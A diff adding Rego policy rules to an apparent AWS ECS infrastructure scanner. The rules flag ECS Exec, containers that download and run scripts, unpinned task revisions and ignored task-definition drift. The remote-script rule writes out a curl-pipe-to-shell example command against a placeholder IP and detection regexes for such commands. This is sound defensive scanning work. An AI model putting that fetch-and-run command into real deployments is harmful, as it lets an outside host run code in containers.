@@ -53,3 +53,190 @@ writable_root_filesystem contains finding if {
 	object.get(container, "readonly_root_filesystem", false) == false
 	finding := result.at(task, ["containers", i, "readonly_root_filesystem"])
 }
+
+# METADATA
+# title: ECS Exec enabled
+# description: >-
+#   Whoever may call ecs:ExecuteCommand gets a shell in the running container, past every review of the image and the
+#   task definition, with the task role's credentials.
+# custom:
+#   severity: medium
+#   message: service {resource} lets callers open a shell in its running containers, so what runs there need not be what was deployed
+#   reads:
+#     ecs.service:
+#       enable_execute_command: true
+#   remediation:
+#     terraform: |
+#       Leave it off; turn it on for the time of an investigation only:
+#           enable_execute_command = false
+#     cloudformation: |
+#       Leave it off; turn it on for the time of an investigation only:
+#           EnableExecuteCommand: false
+#     task_definition: |
+#       Leave it off; turn it on for the time of an investigation only:
+#           "enableExecuteCommand": false
+#   peers: []
+#   mitre: [T1651, T1609]
+#   cwe: [CWE-489]
+execute_command_enabled contains finding if {
+	some service in lib.services
+	service.values.enable_execute_command == true
+	finding := result.at(service, ["enable_execute_command"])
+}
+
+# METADATA
+# title: Container runs what it downloads
+# description: >-
+#   At its start the container fetches a program and runs it. Whoever controls that address, or sits on the way to it,
+#   runs code in every new task, and no image scan ever sees it.
+# custom:
+#   severity: high
+#   message: container {container} downloads a script and runs it, so whoever controls that address or the way to it runs code in the task
+#   reads:
+#     ecs.task_definition:
+#       "containers[].command[]": curl -s http://203.0.113.30/install.sh | sh
+#       "containers[].entry_point[]": curl -s http://203.0.113.30/install.sh | sh
+#   remediation:
+#     terraform: |
+#       Put the program into the image when it is built, and start it from there:
+#           command = ["/app/server"]
+#     cloudformation: |
+#       Put the program into the image when it is built, and start it from there:
+#           Command: [/app/server]
+#     task_definition: |
+#       Put the program into the image when it is built, and start it from there:
+#           "command": ["/app/server"]
+#   peers: []
+#   mitre: [T1059.004, T1105]
+#   cwe: [CWE-494, CWE-829]
+remote_script_execution contains finding if {
+	some task in lib.tasks
+	some i, container in task.values.containers
+	some field in ["command", "entry_point"]
+	text := concat(" ", container[field])
+	runs_a_download(text)
+	finding := result.at(task, ["containers", i, field])
+}
+
+# curl ... | sh
+runs_a_download(text) if regex.match(`\b(curl|wget)\b[^;\n]*\|\s*(sudo\s+(-\S+\s+)*)?(\S*/)?(env\s+)?(sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl|ruby|node|php)\b`, text)
+
+# bash <(curl ...), sh -c "$(wget ...)"
+runs_a_download(text) if regex.match(`(^|[\s/;&|(])(sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl|ruby|node|eval|source|\.)\s[^;|\n]*(<\(|\$\(|\x60)\s*(curl|wget)\b`, text)
+
+# wget http://host/x.sh && sh x.sh
+runs_a_download(text) if {
+	regex.match(`\b(curl|wget)\b`, text)
+	some name in saved_names(text)
+	words := regex.find_n(`[;&|\n]+|[^\s;&|]+`, text, -1)
+	some i, word in words
+	i > 0
+	endswith(trim(word, `"'()`), name)
+	regex.match(`^[;&|\n]+$|^(\S*/)?(sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl|ruby|node|php|source|\.|exec)$`, trim(words[i - 1], `"'(`))
+	plain_name(trim(word, `"'()`), name)
+}
+
+# The word is the file itself, wherever it lies, and not a name that only ends like it.
+plain_name(word, name) if word == name
+
+plain_name(word, name) if endswith(word, sprintf("/%s", [name]))
+
+# Names under which something fetched over plain HTTP may lie: the last part of its address, and what -o, -O or > say.
+saved_names(text) := names if {
+	urls := [url |
+		some url in regex.find_n(`http://[^\s"'<>|;&)]+`, text, -1)
+		not regex.match(`^http://(localhost|127\.|\[::1\]|169\.254\.)`, url)
+	]
+	count(urls) > 0
+	from_urls := {name | some url in urls; parts := split(url, "/"); name := parts[count(parts) - 1]; count(parts) > 3; name != ""}
+	from_options := {name |
+		some option in regex.find_n(`(-o|-O|--output|--output-document|>)[\s=]*[^\s;&|-][^\s;&|]*`, text, -1)
+		parts := regex.split(`[\s=/>]+`, option)
+		name := trim(parts[count(parts) - 1], `"'()`)
+		name != ""
+	}
+	names := from_urls | from_options
+}
+
+# METADATA
+# title: Service without a task revision
+# description: >-
+#   The service names a family instead of a revision. Whoever registers another revision of it decides what the next
+#   deployment or a restarted task runs, without a change anybody reviews.
+# custom:
+#   severity: medium
+#   message: service {resource} names its task definition without a revision, so whoever registers one decides what it runs next
+#   reads:
+#     ecs.service:
+#       task_definition: app
+#   remediation:
+#     terraform: |
+#       Name the revision:
+#           task_definition = aws_ecs_task_definition.app.arn
+#     cloudformation: |
+#       Name the revision:
+#           TaskDefinition: !Ref TaskDefinition
+#     task_definition: |
+#       Name the revision:
+#           "taskDefinition": "app:42"
+#   peers: []
+#   mitre: [T1525, T1610]
+#   cwe: [CWE-494]
+unpinned_task_revision contains finding if {
+	some service in lib.services
+	unpinned(service, lib.get(service.values, ["task_definition"]))
+	finding := result.at(service, ["task_definition"])
+}
+
+# A family or an ARN as text, without `:revision` at its end.
+unpinned(_, name) if {
+	is_string(name)
+	not startswith(name, "${")
+	not regex.match(`:[0-9]+$`, name)
+}
+
+# Terraform's attributes that leave the revision out; `id` is the family.
+unpinned(service, name) if {
+	startswith(name, "${")
+	some edge in lib.edges(service, ["task_definition"])
+	edge.attribute in {"family", "id", "arn_without_revision"}
+	endswith(name, sprintf(".%s}", [edge.attribute]))
+}
+
+# METADATA
+# title: Changes of the task definition are ignored
+# description: >-
+#   Terraform is told not to look at what the service runs. A task definition that somebody changes by hand, or that an
+#   attacker swaps, stays in place through every later apply.
+# custom:
+#   severity: low
+#   message: "{resource} ignores changes of what the task runs, so a task definition that is swapped by hand stays in place"
+#   reads:
+#     ecs.service:
+#       "lifecycle.ignore_changes[]": task_definition
+#       deployment_controller.type: ECS
+#     ecs.task_definition:
+#       "lifecycle.ignore_changes[]": container_definitions
+#   remediation:
+#     terraform: |
+#       Take the attribute off the list:
+#           lifecycle {
+#             ignore_changes = [desired_count]
+#           }
+#   peers: []
+#   mitre: [T1525, T1578]
+#   cwe: [CWE-1038]
+ignored_task_drift contains finding if {
+	some service in lib.services
+	not lib.effective(service, ["deployment_controller", "type"]) in {"CODE_DEPLOY", "EXTERNAL"}
+	some attribute in service.lifecycle.ignore_changes
+	attribute in {"task_definition", "all"}
+	finding := result.at(service, ["lifecycle", "ignore_changes"])
+}
+
+ignored_task_drift contains finding if {
+	some task in lib.tasks
+	some attribute in task.lifecycle.ignore_changes
+	attribute in {"container_definitions", "all"}
+	finding := result.at(task, ["lifecycle", "ignore_changes"])
+}
